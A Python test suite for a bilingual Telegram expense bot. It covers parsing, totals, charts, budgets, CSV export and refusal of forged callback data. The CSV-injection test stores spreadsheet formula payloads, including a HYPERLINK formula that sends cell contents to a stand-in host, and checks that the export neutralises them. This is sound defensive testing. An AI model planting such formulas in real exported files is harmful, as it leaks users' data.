# test_expenses.py: expenses through the whole stack (nginx, FastCGI, parser, PostgreSQL, Bot API stand-in). See LICENSE.
#
# Issue 6 "done when": phrasings in es and en, totals to the cent (repeating expenses included), every
# chart kind as a valid PNG reaching sendPhoto, the chart-kind buttons, an empty month, budget warnings
# once each, the CSV export read back, and forged callback data refused. User ids 6xxxxx.
import csv
import datetime
import io
import re
import struct
import unittest
import zlib
from decimal import Decimal
from zoneinfo import ZoneInfo

import stack as S

TZ = ZoneInfo("Europe/Madrid")   # MSB_TZ of the test stack: every new user's zone


def setUpModule():
    S.up(__name__)


def tearDownModule():
    S.down()


def today():
    return datetime.datetime.now(TZ).date()


def last_weekday_before(d, weekday):
    """The last day before d with isoweekday() == weekday (CONTRACT.md: bare weekdays of expenses)."""
    k = (d.isoweekday() - weekday) % 7 or 7
    return d - datetime.timedelta(days=k)


def add_months(d, n):
    y, m = divmod(d.month - 1 + n, 12)
    y, m = d.year + y, m + 1
    days = [31, 29 if y % 4 == 0 and (y % 100 or y % 400 == 0) else 28, 31, 30, 31, 30, 31, 31, 30, 31, 30, 31]
    return datetime.date(y, m, min(d.day, days[m - 1]))


def occurrences(start, every, until, lo, hi):
    """Days in [lo, hi] on which an expense counts: the model the SQL must agree with."""
    out, k = [], 0
    while True:
        if every is None:
            d = start if k == 0 else None
        elif every == "day":
            d = start + datetime.timedelta(days=k)
        elif every == "week":
            d = start + datetime.timedelta(weeks=k)
        elif every == "month":
            d = add_months(start, k)
        else:
            d = add_months(start, 12 * k)
        if d is None or d > hi or (until is not None and d > until):
            return out
        if d >= lo:
            out.append(d)
        k += 1


def eur_es(d):
    """Decimal d as the bot writes euros in Spanish: 1.234,56 €."""
    s = "{:,.2f}".format(d).replace(",", "_").replace(".", ",").replace("_", ".")
    return s + " €"


def eur_en(d):
    return "€{:,.2f}".format(d)


def png_size(b):
    """Checks a PNG chunk by chunk (signature, CRCs, IDAT inflates, IEND) and returns (width, height)."""
    assert b[:8] == b"\x89PNG\r\n\x1a\n", "not a PNG signature"
    pos, idat, size, types = 8, b"", None, []
    while pos < len(b):
        n = struct.unpack(">I", b[pos:pos + 4])[0]
        typ, data = b[pos + 4:pos + 8], b[pos + 8:pos + 8 + n]
        crc = struct.unpack(">I", b[pos + 8 + n:pos + 12 + n])[0]
        assert zlib.crc32(typ + data) & 0xffffffff == crc, "bad CRC in %r" % typ
        if typ == b"IHDR":
            size = struct.unpack(">II", data[:8])
        elif typ == b"IDAT":
            idat += data
        types.append(typ)
        pos += 12 + n
    assert types[0] == b"IHDR" and types[-1] == b"IEND"
    raw = zlib.decompress(idat)
    assert len(raw) >= size[1], "image data shorter than its rows"
    return size


def photos(replies):
    return [r for r in replies if r["method"] == "sendPhoto"]


def texts(replies):
    return [r["text"] or "" for r in replies if r["method"] in ("sendMessage", "editMessageText")]


class Base(S.StackTestCase):
    def rows(self, uid):
        return self.stack.sql("SELECT id, amount, currency, concept, category, spent_on, every, until_on "
                              "FROM expenses.expenses WHERE user_id = %s ORDER BY id", uid)

    def insert(self, uid, amount, day, every=None, concept="x", category="other", currency="EUR", until=None):
        return self.stack.sql("INSERT INTO expenses.expenses (user_id, amount, currency, concept, category, "
                              "spent_on, every, until_on) VALUES (%s, %s, %s, %s, %s, %s, %s, %s) RETURNING id",
                              uid, amount, currency, concept, category, day, every, until)[0][0]

    def user(self, uid, lang="es"):
        chat = S.Chat(self.stack, uid, lang=lang)
        chat.say("/start")
        self.stack.standin.reset()
        return chat


class Adding(Base):
    # (text, amount, currency, every, day) with day a function of today
    ES = [
        ("comedor universitario 7,80", "7.80", "EUR", None, lambda t: t),
        ("residencia 380€ al mes", "380.00", "EUR", "month", lambda t: t),
        ("ayer taxi 12 €", "12.00", "EUR", None, lambda t: t - datetime.timedelta(days=1)),
        ("1.050,00 € matrícula segundo plazo", "1050.00", "EUR", None, lambda t: t),
        ("Bus 5€ semana", "5.00", "EUR", "week", lambda t: t),
        ("café 1,50€", "1.50", "EUR", None, lambda t: t),
        ("entradas teatro 9€ el martes", "9.00", "EUR", None, lambda t: last_weekday_before(t, 2)),
        ("gimnasio 30 euros al mes", "30.00", "EUR", "month", lambda t: t),
        ("netflix 12,99 dólares", "12.99", "USD", None, lambda t: t),
        ("libros 1.500€", "1500.00", "EUR", None, lambda t: t),
    ]
    EN = [
        ("yesterday's lunch 6.40", "6.40", "EUR", None, lambda t: t - datetime.timedelta(days=1)),
        ("$9.99 hulu monthly", "9.99", "USD", "month", lambda t: t),
        ("coffee 2.50", "2.50", "EUR", None, lambda t: t),
        ("£20 books", "20.00", "GBP", None, lambda t: t),
        ("€1,200 rent monthly", "1200.00", "EUR", "month", lambda t: t),
        ("paid 1,200.50 rent", "1200.50", "EUR", None, lambda t: t),
        ("bus pass 25 euros weekly", "25.00", "EUR", "week", lambda t: t),
    ]

    def check(self, uid, lang, cases, fmt):
        chat = self.user(uid, lang)
        for text, amount, cur, every, day in cases:
            with self.subTest(text=text):
                before = len(self.rows(uid))
                r = chat.say(text)
                rows = self.rows(uid)
                self.assertEqual(len(rows), before + 1, "no expense recorded for %r: %r" % (text, texts(r)))
                _, amt, c, concept, cat, spent, ev, _ = rows[-1]
                self.assertEqual((amt, c, ev, spent), (Decimal(amount), cur, every, day(today())))
                if cur == "EUR":
                    self.assertIn(fmt(Decimal(amount)), texts(r)[0])
                # The confirmation carries undo, change category and (when repeating) only-once.
                data = [d for _, d in S.buttons(r[0])]
                self.assertIn("e:undo:%d" % rows[-1][0], data)
                self.assertIn("e:cat:%d" % rows[-1][0], data)
                self.assertEqual("e:once:%d" % rows[-1][0] in data, every is not None)

    def test_spanish_phrasings(self):
        self.check(600101, "es", self.ES, eur_es)

    def test_english_phrasings(self):
        self.check(600102, "en", self.EN, eur_en)

    def test_buttons_once_category_undo(self):
        chat = self.user(600103)
        r = chat.say("Bus 5€ semana")
        eid = self.rows(600103)[-1][0]
        r = chat.press("e:once:%d" % eid)
        self.assertIsNone(self.rows(600103)[-1][6])
        self.assertTrue(any(x["method"] == "answerCallbackQuery" for x in r))
        r = chat.press("e:cat:%d" % eid)
        cats = [d for _, d in S.buttons(next(x for x in r if x["method"] == "editMessageText"))]
        self.assertIn("e:setcat:%d:leisure" % eid, cats)
        self.assertEqual(len(cats), 9)
        chat.press("e:setcat:%d:leisure" % eid)
        self.assertEqual(self.rows(600103)[-1][4], "leisure")
        chat.press("e:undo:%d" % eid)
        self.assertEqual(self.rows(600103), [])


class Totals(Base):
    """Totals of week, month and year to the cent, repeating expenses counted in every period."""

    def seed(self, uid):
        t = today()
        specs = [
            (Decimal("5.00"), t - datetime.timedelta(days=70), "week", None, "Bus", "transport"),
            (Decimal("380.00"), add_months(t, -3).replace(day=1), "month", None, "Residencia", "housing"),
            (Decimal("1.10"), t - datetime.timedelta(days=40), "day", t - datetime.timedelta(days=3), "Pan", "food"),
            (Decimal("29.99"), add_months(t, -14), "year", None, "Seguro", "bills"),
            (Decimal("12.34"), t, None, None, "Cena", "food"),
            (Decimal("0.01"), t - datetime.timedelta(days=1), None, None, "Chicle", "food"),
            (Decimal("250.00"), add_months(t, -1), None, None, "Portátil", "shopping"),
            (Decimal("7.77"), t, None, None, "Lunch", "food", "USD"),
        ]
        for s in specs:
            self.insert(uid, s[0], s[1], s[2], s[4], s[5], s[6] if len(s) > 6 else "EUR", s[3])
        return specs

    def expected(self, specs, lo, hi, cur="EUR"):
        total = Decimal("0")
        for s in specs:
            if (s[6] if len(s) > 6 else "EUR") == cur:
                total += s[0] * len(occurrences(s[1], s[2], s[3], lo, hi))
        return total

    def total_in(self, text, fmt):
        m = re.findall(r"Total: <b>([^<]+)</b>", text)
        self.assertTrue(m, text)
        return m

    def test_week_month_year_to_the_cent(self):
        uid = 600201
        chat = self.user(uid)
        specs = self.seed(uid)
        t = today()
        monday = t - datetime.timedelta(days=t.isoweekday() - 1)
        jan1 = t.replace(month=1, day=1)
        for ask, lo in (("¿cuánto he gastado este mes?", t.replace(day=1)), ("/gastos semana", monday),
                        ("/gastos año", jan1)):
            with self.subTest(ask=ask):
                r = chat.say(ask)
                body = texts(r)[0]
                totals = self.total_in(body, eur_es)
                self.assertEqual(totals[0], eur_es(self.expected(specs, lo, t)))
                # Dollars apart, never added to euros.
                self.assertIn("7,77 $", totals)

    def test_same_point_comparison(self):
        uid = 600202
        chat = self.user(uid)
        t = today()
        prev = add_months(t, -1)
        self.insert(uid, "10.00", t.replace(day=1), concept="a")
        self.insert(uid, "4.00", prev.replace(day=1), concept="b")
        later = prev + datetime.timedelta(days=1)
        if later.month == prev.month:   # after "the same point" of last month: not compared
            self.insert(uid, "1000.00", later, concept="c")
        r = chat.say("/gastos mes")
        self.assertIn("4,00 €", texts(r)[0])
        self.assertIn("+150", texts(r)[0])

    def test_delete_by_its_spending_word(self):
        """"borra la cena" reaches the expense (a spending word), not the tasks; a task keeps its name."""
        c = S.Chat(self.stack, 600090)
        c.say("cena 15€")
        c.say("Comprar la cena del viernes para el 10/10/2100")
        r = c.say("borra la cena")
        self.assertIn("Borrado", " ".join(x["text"] or "" for x in r))
        self.assertEqual(self.stack.sql("SELECT count(*) FROM expenses.expenses WHERE user_id = %s", 600090), [(0,)])
        self.assertEqual(self.stack.sql("SELECT status FROM tasks.tasks WHERE user_id = %s", 600090), [("pending",)])

    def test_english_format_and_stop(self):
        uid = 600203
        chat = self.user(uid, "en")
        t = today()
        gid = self.insert(uid, "1234.50", t.replace(day=1), "month", "gym", "leisure")
        r = chat.say("/gastos month")
        self.assertIn("€1,234.50", texts(r)[0])
        chat.press("e:stop:%d" % gid)
        self.assertEqual(self.rows(uid)[0][7], t)


class Charts(Base):
    def seed(self, uid):
        t = today()
        for i, (amt, cat) in enumerate([("12.50", "food"), ("30.00", "transport"), ("380.00", "housing"),
                                        ("9.99", "leisure"), ("45.00", "education")]):
            self.insert(uid, amt, t - datetime.timedelta(days=i % t.day), concept="c%d" % i, category=cat)
            self.insert(uid, amt, add_months(t, -1).replace(day=1 + i), concept="p%d" % i, category=cat)
            self.insert(uid, amt, add_months(t, -3).replace(day=1 + i), concept="q%d" % i, category=cat)
        self.insert(uid, "5.00", t - datetime.timedelta(days=60), "week", "Bus", "transport")

    def assert_chart(self, replies):
        ph = photos(replies)
        self.assertEqual(len(ph), 1, texts(replies))
        png = ph[0]["files"]["photo"]["bytes"]
        w, h = png_size(png)
        self.assertEqual(w, 1080)
        self.assertTrue(400 <= h <= 2000)
        self.assertTrue(ph[0]["text"])   # a caption with the title
        return png

    def test_each_kind_by_phrase(self):
        uid = 600301
        chat = self.user(uid)
        self.seed(uid)
        for phrase in ("gráfico de tarta de este mes", "gráfico de barras de este mes",
                       "gráfico de líneas", "gráfico de barras comparando con los 3 meses anteriores"):
            with self.subTest(phrase=phrase):
                self.assert_chart(chat.say(phrase))

    def test_kind_buttons(self):
        uid = 600302
        chat = self.user(uid, "en")
        self.seed(uid)
        r = chat.say("/grafico")
        self.assertFalse(photos(r))
        kinds = [d for _, d in S.buttons(r[0])]
        self.assertEqual([k.split(":")[2] for k in kinds], ["pie", "bar", "cat", "line", "cmp"])
        seen = set()
        for data in kinds:
            with self.subTest(data=data):
                r = chat.press(data)
                self.assertTrue(any(x["method"] == "answerCallbackQuery" for x in r))
                seen.add(self.assert_chart(r))
        self.assertEqual(len(seen), 5)   # five different pictures
        self.assertTrue(self.stack.standin.calls("sendPhoto"))

    def test_empty_month(self):
        uid = 600303
        chat = self.user(uid)
        self.insert(uid, "3.00", add_months(today(), -2), concept="old")
        for text in ("gráfico de tarta de este mes", "¿cuánto he gastado este mes?"):
            r = chat.say(text)
            self.assertFalse(photos(r))
            self.assertIn("📭", texts(r)[0])
        d = today().replace(day=1).isoformat()
        r = chat.press("e:ch:pie:m:%s" % d)
        self.assertFalse(photos(r))
        self.assertTrue(any("📭" in t for t in texts(r)))


class Budget(Base):
    def test_warnings_once_each(self):
        uid = 600501
        chat = self.user(uid)
        r = chat.say("presupuesto 100€ al mes")
        self.assertIn("100,00 €", texts(r)[0])
        warned = []
        for text, want in (("comida 50€", None), ("cena 35€", "⚠️"), ("café 5€", None), ("libros 20€", "🚨"),
                           ("bus 1€", None), ("chicle 1€", None)):
            r = chat.say(text)
            w = [t for t in texts(r) if "⚠️" in t or "🚨" in t]
            with self.subTest(text=text):
                if want is None:
                    self.assertEqual(w, [])
                else:
                    self.assertEqual(len(w), 1)
                    self.assertIn(want, w[0])
            warned += w
        self.assertEqual(len(warned), 2)
        r = chat.say("/gastos")
        self.assertIn("🎯 Presupuesto: 112,00 € de 100,00 € (112 %)", texts(r)[0])
        self.assertEqual(self.stack.sql("SELECT level FROM expenses.budget_alerts WHERE user_id = %s "
                                        "ORDER BY level", uid), [(80,), (100,)])


class Export(Base):
    def test_csv_round_trip(self):
        uid = 600601
        chat = self.user(uid)
        t = today()
        self.insert(uid, "12.50", t, concept='Cena "La Tasca", centro', category="food")
        self.insert(uid, "5.00", t - datetime.timedelta(days=9), "week", "Bus\nnocturno", "transport")
        self.insert(uid, "0.99", t, concept="ñandú €", category="other", currency="USD")
        chat.say("café 1,20€")
        r = chat.say("exportar gastos")
        docs = [x for x in r if x["method"] == "sendDocument"]
        self.assertEqual(len(docs), 1, texts(r))
        data = docs[0]["files"]["document"]["bytes"]
        text = data.decode("utf-8")
        self.assertTrue(text.endswith("\r\n"))
        got = list(csv.reader(io.StringIO(text, newline="")))
        self.assertEqual(len(got[0]), 7)   # header row
        want = [[str(d), str(a), c, con, cat, e or "", str(u) if u else ""]
                for _, a, c, con, cat, d, e, u in sorted(self.rows(uid), key=lambda r: (r[5], r[0]))]
        self.assertEqual(got[1:], want)

    def test_csv_cells_are_not_formulas(self):
        """OWASP CSV injection: text cells a spreadsheet would run get a leading "'"; amounts stay numbers."""
        uid = 600602
        chat = self.user(uid)
        t = today()
        # Through the chat: the parser drops "=" and brackets but keeps a leading "@" or "+".
        chat.say("@SUM(A1) 5€")
        chat.say("+1 2€")
        self.assertEqual(sorted(c for _, _, _, c, *_ in self.rows(uid)), ["+1", "@SUM A1"])
        # Stored text the parser would not produce today: the export must not trust the way in.
        self.insert(uid, "1.00", t, concept="=1+1")
        self.insert(uid, "2.50", t - datetime.timedelta(days=1), concept="-2+3")
        self.insert(uid, "3.00", t - datetime.timedelta(days=2), concept='=HYPERLINK("http://x.example/?"&A1,"y")')
        self.insert(uid, "4.00", t - datetime.timedelta(days=3), concept="@SUM(A1)")
        self.insert(uid, "6.00", t - datetime.timedelta(days=4), concept="+34 600\ttab")
        self.insert(uid, "7.00", t - datetime.timedelta(days=5), concept="uno;=1+1")
        r = chat.say("exportar gastos")
        docs = [x for x in r if x["method"] == "sendDocument"]
        self.assertEqual(len(docs), 1, texts(r))
        text = docs[0]["files"]["document"]["bytes"].decode("utf-8")
        self.assertIn('"\'=HYPERLINK(""http://x.example/?""&A1,""y"")"', text)   # quoted after the prefix
        self.assertIn('"uno;=1+1"', text)   # one cell where Excel splits on ";"
        got = {row[3]: row[1] for row in csv.reader(io.StringIO(text, newline=""))}
        self.assertEqual(got, {
            "concepto": "importe",
            "'@SUM A1": "5.00",
            "'+1": "2.00",
            "'=1+1": "1.00",
            "'-2+3": "2.50",   # amounts are > 0 (CHECK); test_csv covers a negative number cell
            "'=HYPERLINK(\"http://x.example/?\"&A1,\"y\")": "3.00",
            "'@SUM(A1)": "4.00",
            "'+34 600\ttab": "6.00",
            "uno;=1+1": "7.00",
        })


class Ownership(Base):
    def test_forged_callbacks_refused(self):
        ana, bob = self.user(600701), self.user(600702)
        ana.say("gimnasio 30€ al mes")
        before = self.rows(600701)
        eid = before[0][0]
        for data in ("e:undo:%d", "e:del:%d", "e:once:%d", "e:cat:%d", "e:setcat:%d:food", "e:stop:%d"):
            with self.subTest(data=data):
                r = bob.press(data % eid)
                ans = [x for x in r if x["method"] == "answerCallbackQuery"]
                self.assertEqual(len(ans), 1)
                self.assertTrue(ans[0]["params"].get("text"))
                self.assertFalse([x for x in r if x["method"] in ("editMessageText", "sendMessage")])
        self.assertEqual(self.rows(600701), before)
        r = bob.press("e:undo:not-a-number")
        self.assertTrue(any(x["method"] == "answerCallbackQuery" for x in r))
        ana.press("e:undo:%d" % eid)
        self.assertEqual(self.rows(600701), [])


class Managing(Base):
    def test_list_delete_stop(self):
        uid = 600801
        chat = self.user(uid)
        chat.say("café 1,50€")
        chat.say("gimnasio 30€ al mes")
        r = chat.say("mis gastos")
        dels = [d for _, d in S.buttons(r[0]) if d.startswith("e:del:")]
        self.assertEqual(len(dels), 2, texts(r))
        r = chat.say("gastos de hoy")
        self.assertIn("31,50 €", texts(r)[0])   # the day's total, then each expense with its delete button
        self.assertEqual(sorted(d for _, d in S.buttons(r[0]) if d.startswith("e:del:")), sorted(dels))
        r = chat.say("ya no pago el gimnasio")
        self.assertEqual([x[7] for x in self.rows(uid) if x[6]], [today()])
        r = chat.say("borra el último gasto")
        self.assertEqual([x[3].lower() for x in self.rows(uid)], ["café"])
        chat.press(dels[-1])
        self.assertEqual(self.rows(uid), [])



class Agenda(Base):
    def test_money_line_in_the_agenda(self):
        uid = 600901
        chat = self.user(uid)
        t = today()
        r = chat.say("¿qué tengo hoy?")
        self.assertFalse(any("💶" in x for x in texts(r)))   # nothing spent: no money line
        self.insert(uid, "12.50", t, concept="cena", category="food")
        self.insert(uid, "3.00", t.replace(day=1), "day", "café", "food")
        r = chat.say("¿qué tengo hoy?")
        line = [x for x in texts(r) if "💶" in x]
        self.assertEqual(len(line), 1, texts(r))
        self.assertIn(eur_es(Decimal("15.50")) + " ese día", line[0])
        self.assertIn(eur_es(Decimal("12.50") + 3 * t.day) + " en el mes", line[0])


if __name__ == "__main__":
    unittest.main()
